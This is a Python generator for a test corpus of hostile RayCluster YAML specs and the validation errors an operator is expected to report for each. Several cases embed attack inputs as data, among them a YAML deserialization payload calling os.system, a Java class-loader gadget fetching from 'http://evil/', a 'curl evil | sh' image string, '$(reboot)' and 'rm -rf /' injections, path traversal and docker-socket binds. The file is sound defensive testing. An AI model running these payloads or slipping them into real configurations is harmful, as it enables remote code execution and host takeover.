# Writes the hostile spec corpus and its expected.tsv: python3 generate.py . (run in this directory; the files are kept in git).
import os, sys
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
rows = []

def base(name, head_extra="", worker="", spec_extra="", head_container_extra="", head_pod_extra="", meta_extra="", head_params="{}"):
    w = worker if worker is not None else ""
    return f"""apiVersion: ray.io/v1
kind: RayCluster
metadata:
  name: {name}
{meta_extra}spec:
{spec_extra}  headGroupSpec:
    rayStartParams: {head_params}
{head_extra}    template:
      spec:
{head_pod_extra}        containers:
          - name: ray-head
            image: swarmray/ray-standin:test
{head_container_extra}{w}"""

def worker(name="w", extra="", container_extra="", pod_extra="", replicas="1", tmeta=""):
    return f"""  workerGroupSpecs:
    - groupName: {name}
      replicas: {replicas}
      rayStartParams: {{}}
{extra}      template:
{tmeta}        spec:
{pod_extra}          containers:
            - name: ray-worker
              image: swarmray/ray-standin:test
{container_extra}"""

def case(fname, content, doc, field, msg):
    data = content if isinstance(content, bytes) else content.encode()
    with open(os.path.join(out, fname), "wb") as f:
        f.write(data)
    rows.append((fname, str(doc), field, msg))

n = [0]
def nm():
    n[0] += 1
    return "hx%02d" % n[0]

# --- the file as a whole
case("empty.yaml", "", -1, "", "the file is empty")
case("only-comments.yaml", "# nothing here\n# kind: RayCluster\n", -1, "", "the file is empty")
case("only-separators.yaml", "---\n---\n...\n", -1, "", "the file is empty")
case("binary.yaml", bytes(range(256)) * 4, -1, "", "is not UTF-8 text")
case("latin1.yaml", base(nm()).replace("RayCluster", "RayCluster # na\xefve").encode("latin-1"), -1, "", "is not UTF-8 text")
case("utf16.yaml", base(nm()).encode("utf-16"), -1, "", "is not UTF-8 text")
case("nul-bytes.yaml", base(nm()).replace("kind:", "ki\0nd:"), 0, "", "invalid YAML")
case("bad-indent.yaml", "apiVersion: ray.io/v1\nkind: RayCluster\n metadata:\n  name: x\n", 0, "", "invalid YAML at line")
case("unclosed-quote.yaml", base(nm()).replace("ray.io/v1", "\"ray.io/v1"), 0, "", "invalid YAML at line")
case("unclosed-flow.yaml", "apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: [unclosed\n", 0, "", "invalid YAML at line")
case("tab-indent.yaml", base(nm()).replace("  name:", "\tname:"), 0, "", "invalid YAML at line")
case("duplicate-keys.yaml", base(nm()).replace("kind: RayCluster\n", "kind: RayCluster\nkind: RayCluster\n"), 0, "", "duplicate key kind")
laughs = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98+i)}: &{chr(98+i)} [" + ",".join(["*" + chr(97+i)] * 10) + "]\n" for i in range(9))
case("billion-laughs.yaml", laughs, 0, "", "invalid YAML: Number of aliases for non-scalar nodes exceeds the specified max")
case("deep-nesting.yaml", "a: " + "[" * 200 + "]" * 200 + "\n", 0, "", "invalid YAML: Nesting Depth exceeded")
case("too-many-documents.yaml", "---\n{}\n" * 101, 100, "", "more than 100 documents")
case("recursive-alias.yaml", base(nm()).replace("metadata:\n", "metadata: &m\n  labels: *m\n"), 0, "metadata.labels.labels", "must be a string, got a map")
case("python-tag.yaml", "apiVersion: !!python/object/apply:os.system ['touch /tmp/pwned']\nkind: RayCluster\n", 0, "", "invalid YAML")
case("java-tag.yaml", "kind: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n", 0, "", "invalid YAML")
case("custom-tag.yaml", base(nm()).replace("name: hx", "name: !Ref hx"), 0, "", "invalid YAML")
case("top-level-list.yaml", "- apiVersion: ray.io/v1\n  kind: RayCluster\n", -1, "", "declares no RayCluster")
case("top-level-scalar.yaml", "RayCluster please\n", -1, "", "declares no RayCluster")
case("unknown-kind.yaml", base(nm()).replace("kind: RayCluster", "kind: RayCronJob"), -1, "", "declares no RayCluster")
case("missing-kind.yaml", base(nm()).replace("kind: RayCluster\n", ""), -1, "", "declares no RayCluster")
case("kind-lowercase.yaml", base(nm()).replace("kind: RayCluster", "kind: raycluster"), -1, "", "declares no RayCluster")

# --- document shape and names
case("bad-api-version.yaml", base(nm()).replace("ray.io/v1", "ray.io/v2"), 0, "apiVersion", "'ray.io/v2' is not supported")
case("missing-api-version.yaml", base(nm()).replace("apiVersion: ray.io/v1\n", ""), 0, "apiVersion", "is missing")
case("metadata-list.yaml", "apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: [a, b]\nspec: {}\n", 0, "metadata", "must be a map, got a list")
case("spec-string.yaml", f"apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {{name: {nm()}}}\nspec: everything\n", 0, "spec", "must be a map, got a string")
case("missing-spec.yaml", f"apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {{name: {nm()}}}\n", 0, "spec", "is required")
case("missing-head.yaml", f"apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {{name: {nm()}}}\nspec:\n  rayVersion: '2.40.0'\n", 0, "spec.headGroupSpec", "is required")
case("head-null.yaml", f"apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {{name: {nm()}}}\nspec:\n  headGroupSpec: null\n", 0, "spec.headGroupSpec", "is required")
case("missing-name.yaml", base("x").replace("  name: x\n", "  labels: {a: b}\n"), 0, "metadata.name", "is required")
case("name-empty.yaml", base('""'), 0, "metadata.name", "is required")
case("name-uppercase.yaml", base("MyCluster"), 0, "metadata.name", "'MyCluster' is not a lowercase DNS label")
case("name-too-long.yaml", base("h" * 64), 0, "metadata.name", "is longer than 63 characters")
case("name-path.yaml", base("'../../etc/passwd'"), 0, "metadata.name", "is not a lowercase DNS label")
case("name-shell.yaml", base("'x; rm -rf / #'"), 0, "metadata.name", "is not a lowercase DNS label")
case("name-substitution.yaml", base("'$(reboot)'"), 0, "metadata.name", "is not a lowercase DNS label")
case("name-number.yaml", base("12345"), 0, "metadata.name", "'12345' is not a lowercase DNS label")
case("name-unicode.yaml", base("r\u00e1y"), 0, "metadata.name", "is not a lowercase DNS label")
case("name-newline.yaml", base('"a\\nkind: evil"'), 0, "metadata.name", "is not a lowercase DNS label")
case("name-map.yaml", base("{a: b}"), 0, "metadata.name", "must be a string, got a map")
case("declared-twice.yaml", base("hxdup") + "---\n" + base("hxdup"), 1, "metadata.name", "is declared twice in this file (documents 0 and 1); neither is applied")

# --- numbers
W = lambda **k: worker(**k)
case("replicas-string.yaml", base(nm(), worker=W(replicas="three")), 0, "spec.workerGroupSpecs[0].replicas", "must be an integer, got a string")
case("replicas-negative.yaml", base(nm(), worker=W(replicas="-1")), 0, "spec.workerGroupSpecs[0].replicas", "-1 must be at least 0")
case("replicas-1e12.yaml", base(nm(), worker=W(replicas="1e12")), 0, "spec.workerGroupSpecs[0].replicas", "must be an integer, got a number (1.0E12)")
case("replicas-huge.yaml", base(nm(), worker=W(replicas="99999999999999999999999")), 0, "spec.workerGroupSpecs[0].replicas", "99999999999999999999999")
case("replicas-float.yaml", base(nm(), worker=W(replicas="1.5")), 0, "spec.workerGroupSpecs[0].replicas", "1.5")
case("replicas-bool.yaml", base(nm(), worker=W(replicas="true")), 0, "spec.workerGroupSpecs[0].replicas", "must be an integer, got a boolean")
case("replicas-list.yaml", base(nm(), worker=W(replicas="[1, 2]")), 0, "spec.workerGroupSpecs[0].replicas", "must be an integer, got a list")
case("min-greater-than-max.yaml", base(nm(), worker=W(extra="      minReplicas: 5\n      maxReplicas: 2\n")), 0, "spec.workerGroupSpecs[0].minReplicas", "5 is greater than maxReplicas 2")
case("cpu-abc.yaml", base(nm(), head_container_extra="            resources: {limits: {cpu: abc}}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].resources.limits.cpu", "'abc'")
case("memory-5Zi.yaml", base(nm(), head_container_extra="            resources: {limits: {memory: 5Zi}}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].resources.limits.memory", "'5Zi'")
case("memory-negative.yaml", base(nm(), head_container_extra="            resources: {limits: {memory: -1Gi}}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].resources.limits.memory", "-1Gi")
case("cpu-huge.yaml", base(nm(), head_container_extra="            resources: {limits: {cpu: 1e30}}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].resources.limits.cpu", "is out of range")
case("resources-list.yaml", base(nm(), head_container_extra="            resources: [cpu, memory]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].resources", "must be a map, got a list")
case("port-string.yaml", base(nm(), head_container_extra="            ports: [{containerPort: http}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].ports[0].containerPort", "must be an integer, got a string")
case("port-out-of-range.yaml", base(nm(), head_container_extra="            ports: [{containerPort: 70000}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].ports[0].containerPort", "70000")
case("suspend-string.yaml", base(nm(), spec_extra="  suspend: maybe\n"), 0, "spec.suspend", "must be true or false, got a string")

# --- groups
case("worker-groups-map.yaml", base(nm(), worker="  workerGroupSpecs: {w: 1}\n"), 0, "spec.workerGroupSpecs", "must be a list, got a map")
case("worker-group-scalar.yaml", base(nm(), worker="  workerGroupSpecs: [w]\n"), 0, "spec.workerGroupSpecs[0]", "must be a map, got a string")
case("duplicate-group.yaml", base(nm(), worker=W() + W().replace("  workerGroupSpecs:\n", "")), 0, "spec.workerGroupSpecs[1].groupName", "'w' is used by another worker group")
case("group-name-shell.yaml", base(nm(), worker=W(name="'w`id`'")), 0, "spec.workerGroupSpecs[0].groupName", "is not a lowercase DNS label")
case("group-name-too-long.yaml", base("hxlongcluster", worker=W(name="g" * 60)), 0, "spec.workerGroupSpecs[0].groupName", "longer than 63 characters")
case("group-name-missing.yaml", base(nm(), worker=W().replace("    - groupName: w\n      replicas", "    - replicas")), 0, "spec.workerGroupSpecs[0].groupName", "is required")
many = "".join(W(name=f"g{i}").replace("  workerGroupSpecs:\n", "") for i in range(65))
case("too-many-groups.yaml", base(nm(), worker="  workerGroupSpecs:\n" + many), 0, "spec.workerGroupSpecs", "has 65 groups; the limit is 64")
case("containers-empty.yaml", base(nm()).replace("        containers:\n          - name: ray-head\n            image: swarmray/ray-standin:test\n", "        containers: []\n"), 0, "spec.headGroupSpec.template.spec.containers", "needs at least one container")
case("containers-map.yaml", base(nm()).replace("        containers:\n          - name: ray-head\n            image: swarmray/ray-standin:test\n", "        containers: {name: ray-head}\n"), 0, "spec.headGroupSpec.template.spec.containers", "must be a list, got a map")
case("image-missing.yaml", base(nm()).replace("            image: swarmray/ray-standin:test\n", ""), 0, "spec.headGroupSpec.template.spec.containers[0].image", "is required")
case("image-shell.yaml", base(nm()).replace("image: swarmray/ray-standin:test", "image: 'swarmray/x; curl evil | sh'"), 0, "spec.headGroupSpec.template.spec.containers[0].image", "is not an image reference")

# --- strings, params, env, annotations
case("value-too-long.yaml", base(nm(), spec_extra="  rayVersion: '" + "9" * 5000 + "'\n"), 0, "spec.rayVersion", "characters long; the limit is 4096")
case("ray-start-params-list.yaml", base(nm(), head_params="[num-cpus, '1']"), 0, "spec.headGroupSpec.rayStartParams", "must be a map, got a list")
case("ray-start-param-map.yaml", base(nm(), head_params="{num-cpus: {value: 1}}"), 0, "spec.headGroupSpec.rayStartParams.num-cpus", "must be a string, got a map")
case("ray-start-param-key-shell.yaml", base(nm(), head_params="{'x; rm -rf /': '1'}"), 0, "spec.headGroupSpec.rayStartParams.x; rm -rf /", "is not a ray start flag name")
case("ray-start-param-int-bad.yaml", base(nm(), head_params="{num-cpus: lots}"), 0, "spec.headGroupSpec.rayStartParams.num-cpus", "lots")
case("env-name-bad.yaml", base(nm(), head_container_extra="            env: [{name: 'A B=C', value: x}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].env[0].name", "'A B=C'")
case("env-map.yaml", base(nm(), head_container_extra="            env: {A: b}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].env", "must be a list, got a map")
case("env-value-too-long.yaml", base(nm(), head_container_extra="            env: [{name: A, value: '" + "x" * 5000 + "'}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].env[0].value", "the limit is 4096")
case("label-key-bad.yaml", base(nm(), meta_extra="  labels: {'bad key!': x}\n"), 0, "metadata.labels.bad key!", "is not a valid key")
case("annotation-duration-bad.yaml", base(nm(), worker=W(tmeta="        metadata: {annotations: {swarmray.io/update-delay: forever}}\n")), 0, "spec.workerGroupSpecs[0].template.metadata.annotations.swarmray.io/update-delay", "forever")
case("annotation-constraint-injection.yaml", base(nm(), worker=W(tmeta="        metadata: {annotations: {swarmray.io/constraints: 'node.role==manager; $(reboot)'}}\n")), 0, "spec.workerGroupSpecs[0].template.metadata.annotations.swarmray.io/constraints", "$(reboot)")
case("annotation-max-per-node-bad.yaml", base(nm(), worker=W(tmeta="        metadata: {annotations: {swarmray.io/max-replicas-per-node: '-3'}}\n")), 0, "spec.workerGroupSpecs[0].template.metadata.annotations.swarmray.io/max-replicas-per-node", "-3")
case("upgrade-strategy-bad.yaml", base(nm(), spec_extra="  upgradeStrategy: {type: Banana}\n"), 0, "spec.upgradeStrategy.type", "Banana")
case("gcs-ft-bad.yaml", base(nm(), spec_extra="  gcsFaultToleranceOptions: {redisAddress: 5}\n"), 0, "spec.gcsFaultToleranceOptions.redisAddress", "'5' is not host:port")
case("gcs-ft-plain-password.yaml", base(nm(), spec_extra="  gcsFaultToleranceOptions:\n    redisAddress: redis:6379\n    redisPassword: {value: hunter2}\n"), 0, "spec.gcsFaultToleranceOptions.redisPassword.value", "a password written in the spec would show in `docker service inspect`")

case("ray-start-param-password.yaml", base(nm(), head_params="{redis-password: hunter2}"), 0, "spec.headGroupSpec.rayStartParams.redis-password", "a password written in the spec would show")
case("param-not-shell-quoted.yaml", base(nm(), head_params="{num-cpus: \"'1\"}"), 0, "spec.headGroupSpec.rayStartParams.num-cpus", "has an unclosed single quote")
case("env-reserved.yaml", base(nm(), head_container_extra="            env: [{name: SWARMRAY_NODE_SUBNET, value: 0.0.0.0/0}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].env[0].name", "reserved for SwarmRay")
case("requests-over-limits.yaml", base(nm(), head_container_extra="            resources: {limits: {cpu: '1'}, requests: {cpu: '2'}}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].resources.requests.cpu", "is greater than its limit 1")
case("extra-network-bad.yaml", base(nm(), meta_extra="  annotations: {swarmray.io/extra-networks: 'ok-net, ../host'}\n"), 0, "metadata.annotations.swarmray.io/extra-networks", "'../host' is not a network name")

# --- policy (the test profile: images swarmray/ and rayproject/ray, binds under /tmp/swarmray-it-binds, host ports 28000-28999, 16 CPUs and 32Gi per cluster)
case("policy-image.yaml", base(nm()).replace("image: swarmray/ray-standin:test", "image: evil/miner:1"), 0, "spec.headGroupSpec.template.spec.containers[0].image", "is not allowed by policy")
case("policy-privileged.yaml", base(nm(), head_container_extra="            securityContext: {privileged: true}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].securityContext.privileged", "is not allowed by policy")
case("policy-capabilities.yaml", base(nm(), head_container_extra="            securityContext: {capabilities: {add: [SYS_ADMIN]}}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].securityContext.capabilities.add", "is not allowed by policy")
case("policy-privilege-escalation.yaml", base(nm(), head_container_extra="            securityContext: {allowPrivilegeEscalation: true}\n"), 0, "spec.headGroupSpec.template.spec.containers[0].securityContext.allowPrivilegeEscalation", "is not allowed by policy")
case("policy-pod-privileged.yaml", base(nm(), head_pod_extra="        securityContext: {privileged: true}\n"), 0, "spec.headGroupSpec.template.spec.securityContext.privileged", "is not allowed by policy")
case("policy-host-network.yaml", base(nm(), head_pod_extra="        hostNetwork: true\n"), 0, "spec.headGroupSpec.template.spec.hostNetwork", "is not allowed by policy")
case("policy-host-pid.yaml", base(nm(), head_pod_extra="        hostPID: true\n"), 0, "spec.headGroupSpec.template.spec.hostPID", "is not allowed by policy")
case("policy-host-ipc.yaml", base(nm(), head_pod_extra="        hostIPC: true\n"), 0, "spec.headGroupSpec.template.spec.hostIPC", "is not allowed by policy")
def bind(path):
    return base(nm(), head_pod_extra=f"        volumes: [{{name: v, hostPath: {{path: '{path}'}}}}]\n",
                head_container_extra="            volumeMounts: [{name: v, mountPath: /data}]\n")
case("policy-bind-etc.yaml", bind("/etc"), 0, "spec.headGroupSpec.template.spec.volumes[0].hostPath.path", "is not allowed by policy")
case("policy-bind-docker-socket.yaml", bind("/var/run/docker.sock"), 0, "spec.headGroupSpec.template.spec.volumes[0].hostPath.path", "is not allowed by policy")
case("policy-bind-dotdot.yaml", bind("/tmp/swarmray-it-binds/../../etc"), 0, "spec.headGroupSpec.template.spec.volumes[0].hostPath.path", "is not allowed by policy")
case("policy-bind-prefix-lookalike.yaml", bind("/tmp/swarmray-it-binds-evil"), 0, "spec.headGroupSpec.template.spec.volumes[0].hostPath.path", "is not allowed by policy")
case("policy-host-port-low.yaml", base(nm(), head_container_extra="            ports: [{containerPort: 22, hostPort: 22}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].ports[0].hostPort", "is not allowed by policy")
case("policy-host-port-range.yaml", base(nm(), head_container_extra="            ports: [{containerPort: 8265, hostPort: 29000}]\n"), 0, "spec.headGroupSpec.template.spec.containers[0].ports[0].hostPort", "is not allowed by policy")
case("policy-cpu-ceiling.yaml", base(nm(), worker=W(replicas="20", container_extra="              resources: {limits: {cpu: '1', memory: 1Gi}}\n")), 0, "spec", "asks for 20 cpu in all, more than the policy allows (16, swarmray.policy.max-cpus-per-cluster)")
case("policy-memory-ceiling.yaml", base(nm(), worker=W(replicas="3", container_extra="              resources: {requests: {memory: 16Gi}}\n")), 0, "spec", "asks for 48Gi memory in all, more than the policy allows (32Gi, swarmray.policy.max-memory-per-cluster)")

# --- the healthy cluster's name, claimed by a second file
case("claims-calm.yaml", base("calm"), 0, "metadata.name", "is already declared in")

# --- ignored: hidden, editor leftovers, other extensions
for f in [".hidden.yaml", "#autosave.yaml#", "spec.yaml~", ".spec.yaml.swp", "notes.txt", "spec.yaml.bak", "spec.json"]:
    case(f, "kind: RayCluster\nmetadata: {name: 'BAD NAME'}\n", "", "ignored", "")

with open(os.path.join(out, "expected.tsv"), "w") as f:
    f.write("# file\tdocument\tfield\tmessage (substring); 'ignored': the operator must not read the file. See HostileCorpus.java.\n")
    for r in rows:
        f.write("\t".join(r) + "\n")
print(len(rows), "cases")
